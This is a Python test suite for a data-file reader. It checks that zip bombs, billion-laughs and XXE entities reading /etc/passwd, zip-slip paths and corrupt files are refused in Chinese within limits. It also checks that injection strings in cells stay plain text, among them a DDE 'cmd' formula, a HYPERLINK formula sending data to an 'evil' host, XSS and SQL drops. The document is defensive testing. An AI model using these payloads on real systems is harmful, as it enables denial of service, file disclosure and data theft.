"""Files that mean harm or are beyond repair, made here: each is refused in Chinese or read as plain text, quickly."""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from data.reading import UnreadableFile, read_file
from tests.data.reading.reading_sheets import rows_of

pytestmark = pytest.mark.usefixtures("in_a_child")

ROOT = Path(__file__).parents[3]
Content = Callable[[], bytes]
SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = '<!DOCTYPE lolz [<!ENTITY a0 "哈">{}]>'.format(
    "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'


def zipped(members: dict[str, bytes], level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def book(**parts: bytes) -> bytes:
    """A good workbook; `parts` replace members whose names end so."""
    buffer = io.BytesIO()
    made = openpyxl.Workbook()
    made.active.append(["编号", "社区"])
    made.active.append(["1", "新华"])
    made.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for ending, content in parts.items():
        name = next((one for one in members if one.endswith(f"{ending}.xml")), f"xl/{ending}.xml")
        members[name] = content
    return zipped(members)


def sheet(cells: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}"><sheetData>{cells}</sheetData></worksheet>'.encode()


def cell(text: str, place: str = "A1") -> str:
    return f'<row r="1"><c r="{place}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def bomb(megabytes: int) -> bytes:
    head, tail = sheet(cell("BODY")).split(b"BODY")
    return head + b"a" * (megabytes << 20) + tail


def lying(content: bytes) -> bytes:
    """The same archive, which says of every member that it unpacks to a thousand bytes."""
    spoilt, at = bytearray(content), 0
    while (at := spoilt.find(b"PK\1\2", at)) >= 0:
        struct.pack_into("<L", spoilt, at + 24, 1000)
        at += 4
    return bytes(spoilt)


def layered(layers: int) -> bytes:
    content = b"0" * (1 << 20)
    for layer in range(layers):
        content = zipped({f"{layer}-{i}.zip": content for i in range(8)})
    return content


def overlapping() -> bytes:
    """Many entries of the directory share one compressed member, as in the bombs of 2019."""
    name, plain = b"a.shp", b"0" * (8 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(plain) + packer.flush()
    check, sizes = zlib.crc32(plain), (len(packed), len(plain))
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, check, *sizes, len(name), 0) + name + packed
    entries = b""
    for i in range(400):
        one = b"%03d.shp" % i
        entries += struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, check, *sizes, len(one), 0, 0, 0, 0, 0, 0
        ) + one
    return local + entries + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 400, 400, len(entries), len(local), 0)


def spoilt_names(name: str) -> bytes:
    return zipped({name: b"x", "a.shp": b"x", "a.dbf": b"x"})


def encrypted() -> bytes:
    """The bit that says: this member has a password."""
    content = bytearray(zipped({"a.shp": b"x"}))
    content[content.index(b"PK\1\2") + 8] |= 1
    content[6] |= 1
    return bytes(content)


def html(body: str) -> bytes:
    return f"<html><body><table>{body}</table></body></html>".encode()


def excel_2003(text: str, before: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{before}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row><Cell>'
        f'<Data ss:Type="String">{text}</Data></Cell></Row></Table></Worksheet></Workbook>'
    ).encode()


def kml(text: str, before: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{before}<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>{text}</name>'
        "</Placemark></kml>"
    ).encode()


REFUSED: dict[str, tuple[str, Content, str]] = {
    "far cell": ("a.xlsx", lambda: book(sheet1=sheet(cell("1") + cell("2", "XFD1048576"))), "过大"),
    "bomb in the sheet": ("a.xlsx", lambda: book(sheet1=bomb(70)), "过大"),
    "bomb in the strings": ("a.xlsx", lambda: book(sharedStrings=bomb(70)), "过大"),
    "bomb that lies": ("a.xlsx", lambda: lying(book(sheet1=bomb(400))), "过大|损坏"),
    "bomb as boundaries": ("a.zip", lambda: zipped({"a.shp": b"0" * (100 << 20), "a.dbf": b"0"}), "过大"),
    "bomb in bombs": ("a.zip", lambda: layered(3), "压缩包"),
    "bomb in boundaries": ("a.zip", lambda: zipped({"a.shp": b"", "b.zip": layered(2)}), "还有压缩包"),
    "many members": ("a.zip", lambda: zipped({f"{i}.shp": b"" for i in range(2_000)}), "过大"),
    "overlapping members": ("a.zip", overlapping, "过大|损坏"),
    "laughs in Excel 2003": ("a.xls", lambda: excel_2003("&a11;", LAUGHS), "DOCTYPE"),
    "file in Excel 2003": ("a.xls", lambda: excel_2003("&a11;", OUTSIDE), "DOCTYPE"),
    "laughs in kml": ("a.kml", lambda: kml("&a11;", LAUGHS), "DOCTYPE"),
    "file in kml": ("a.kml", lambda: kml("&a11;", OUTSIDE), "DOCTYPE"),
    "laughs in kmz": ("a.kmz", lambda: zipped({"doc.kml": kml("&a11;", LAUGHS)}), "DOCTYPE"),
    "path upwards": ("a.zip", lambda: spoilt_names("../../etc/cron.d/x"), "路径"),
    "path from the root": ("a.zip", lambda: spoilt_names("/etc/passwd"), "路径"),
    "path of Windows": ("a.zip", lambda: spoilt_names("C:\\Windows\\x.dll"), "路径"),
    "path backwards": ("a.zip", lambda: spoilt_names("..\\..\\x"), "路径"),
    "zip with a password": ("a.zip", encrypted, "密码"),
    "NUL bytes only": ("a.csv", lambda: b"\0" * 100_000, "无法识别"),
    "NUL bytes in text": ("a.csv", lambda: "编号,社区\n1,新\0华\n".encode() * 50, "第 2 行有空字节"),
    "NUL bytes in GBK": ("a.csv", lambda: "编号,社区\n1,新华\n1,\0\n".encode("gbk") * 50, "第 3 行有空字节"),
    "no UTF-8": ("a.csv", lambda: b"\xff\xfe\xfd" + "编号,社区\n".encode() * 40, "损坏|无法识别"),
    "ten thousand columns": ("a.csv", lambda: ",".join(f"列{i}" for i in range(10_000)).encode() + b"\n", "列数超过"),
    "ten thousand columns in a book": (
        "a.xlsx",
        lambda: book(sheet1=sheet(cell("1") + cell("2", "NTP1"))),
        "列数超过",
    ),
    "truncated": ("a.xlsx", lambda: book()[:-400], "损坏"),
    "truncated in a member": ("a.xlsx", lambda: book()[:900], "损坏"),
    "a picture called a workbook": ("a.xlsx", lambda: b"\x89PNG\r\n\x1a\n" + b"0" * 500, "图片"),
    "a program called csv": ("a.csv", lambda: b"\x7fELF\2\1\1" + bytes(range(256)) * 40, "无法识别"),
    "nothing": ("a.xlsx", lambda: b"", "没有内容"),
    "deep JSON": ("a.geojson", lambda: b'{"type":' + b"[" * 500_000, "FeatureCollection|格式有误"),
    "deep html": ("a.html", lambda: b"<html>" + b"<div><table><tr><td>" * 20_000, ""),
}


@pytest.mark.parametrize("what", REFUSED)
def test_a_hostile_file_is_refused_in_words_and_in_time(tmp_path, what):
    name, content, cure = REFUSED[what]
    path = tmp_path / name
    path.write_bytes(content())
    started = time.monotonic()

    with pytest.raises(UnreadableFile) as refused:
        read_file(path)

    assert any(one in refused.value.label.zh for one in cure.split("|")), refused.value.label.zh
    assert "读取时出错" not in refused.value.label.zh  # somebody thought of it
    assert time.monotonic() - started < 30


LONG = "长" * 1_000_000
TEXTS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](http://evil/x.png)", "[x](javascript:alert(1))",
    "'; drop table area; --", "1); delete from import_batch; --", "{{ 7 * 7 }}", "{% raw %}", "${7*7}", "%s%n{0}",
    "../../etc/passwd", "CON", "\u202egnp.exe", "a\u0300" * 500,
]


def test_formulas_scripts_and_sql_in_cells_are_text_like_any_other(tmp_path):
    made = openpyxl.Workbook()
    made.active.append(["编号", "内容"])
    for i, text in enumerate(TEXTS):
        made.active.append([f"{i}", None])
        written = made.active.cell(i + 2, 2, text)
        written.data_type = "s"
    made.save(tmp_path / "a.xlsx")

    [one] = read_file(tmp_path / "a.xlsx").sheets

    assert [cells[1] for _, cells in rows_of(one)[1:]] == TEXTS


def test_a_cell_of_a_million_characters_is_read_whole(tmp_path):
    (tmp_path / "a.csv").write_text(f"编号,内容\n1,{LONG}\n", "utf-8")

    [one] = read_file(tmp_path / "a.csv").sheets

    assert rows_of(one)[1] == (2, ["1", LONG])


def test_half_a_character_in_json_does_not_reach_the_store(tmp_path):
    feature = {"type": "Feature", "properties": {"名称": "新\ud800华"}, "geometry": None}
    (tmp_path / "a.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), "ascii")

    [one] = read_file(tmp_path / "a.geojson").sheets

    assert rows_of(one)[1][1][0] == "新\ufffd华"


def test_entities_of_a_workbook_are_not_expanded(tmp_path):
    for before in (LAUGHS, OUTSIDE):
        (tmp_path / "a.xlsx").write_bytes(book(sheet1=sheet(cell("&a11;"), before)))
        try:
            sheets = read_file(tmp_path / "a.xlsx").sheets
        except UnreadableFile as refused:
            assert refused.label.zh
        else:
            text = str([rows_of(one) for one in sheets])
            assert "root:" not in text and "哈" not in text


def test_entities_of_a_page_are_text(tmp_path):
    (tmp_path / "a.xls").write_bytes(LAUGHS.encode() + html("<tr><td>编号<td>&a11;"))

    assert "哈哈" not in str([rows_of(one) for one in read_file(tmp_path / "a.xls").sheets])


def test_what_is_no_plain_file_is_refused_at_once(tmp_path):
    os.mkfifo(tmp_path / "pipe.csv")
    (tmp_path / "circle.csv").symlink_to(tmp_path / "circle.csv")
    (tmp_path / "nowhere.csv").symlink_to(tmp_path / "gone.csv")
    started = time.monotonic()
    for path in (tmp_path, tmp_path / "pipe.csv", tmp_path / "circle.csv", tmp_path / "nowhere.csv",
                 Path("/dev/zero"), tmp_path / ("长" * 300), tmp_path / "a\0b.csv"):
        with pytest.raises(UnreadableFile, match="找不到文件"):
            read_file(path)
    assert time.monotonic() - started < 5


def test_a_link_to_a_file_is_read_under_its_own_name(tmp_path):
    (tmp_path / "真.csv").write_text("编号,社区\n1,新华\n", "utf-8")
    (tmp_path / "十月.csv").symlink_to(tmp_path / "真.csv")

    assert read_file(tmp_path / "十月.csv").sheets[0].name == "十月"


def test_a_file_that_may_not_be_read_is_said_to_be_so(tmp_path, monkeypatch):
    (tmp_path / "a.csv").write_text("编号\n1\n", "utf-8")
    monkeypatch.setattr("data.reading.files.os.access", lambda path, mode: False)  # root may read everything

    with pytest.raises(UnreadableFile, match="权限"):
        read_file(tmp_path / "a.csv")


def test_the_child_never_takes_more_memory_than_it_may(tmp_path):
    (tmp_path / "a.xlsx").write_bytes(lying(book(sheet1=bomb(400))))
    script = (
        "import resource, sys\nfrom data.reading import UnreadableFile, read_file\n"
        "try: read_file(sys.argv[1])\nexcept UnreadableFile: pass\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss >> 10)"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "a.xlsx")], cwd=ROOT, capture_output=True, text=True, check=True
    )

    assert int(done.stdout) <= 500
